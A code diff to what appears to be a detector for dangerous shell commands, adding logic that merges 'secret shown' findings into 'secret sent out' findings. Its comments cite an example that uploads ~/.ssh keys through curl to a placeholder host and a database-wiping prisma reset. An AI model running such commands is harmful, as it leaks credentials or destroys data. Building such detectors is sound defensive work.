@@ -42,6 +42,7 @@ _AGREEING = {  # words about the object, of one and of several
     ", which may hold ": ", which may hold ",
     " as an option": " as options",
 }
+_SHOWING = ("` reads ", "` prints ", "` shows ", "` exports ")
 _LINKS = frozenset("as at by for from in into of on that to which with".split())  # no parts of a noun
 
 
@@ -144,7 +145,18 @@ def adds(finding: Finding, worst: Finding) -> bool:
     is_another = finding.command.text != worst.command.text  # the same in other rounds of a loop is not
     if is_another and finding.category is worst.category and _is_in(finding, worst) and _ends(worst, finding):
         return False  # `npx prisma migrate reset`
+    if _is_sent(finding.reason, worst.reason):
+        return False  # tar c ~/.ssh | curl -T - x
     return finding.reason not in worst.reason and not (_is_unread(finding) and _is_unread(worst))
+
+
+def _is_sent(reason: str, worst: str) -> bool:
+    """Whether a reason that something secret is shown says nothing that the one that it is sent out does not."""
+    for verb in _SHOWING if "` sends out " in worst else ():
+        what = reason.partition(verb)[2]
+        if what and what in worst:
+            return True
+    return False
 
 
 def beside(findings: Sequence[Finding], worst: Finding) -> list[int]:
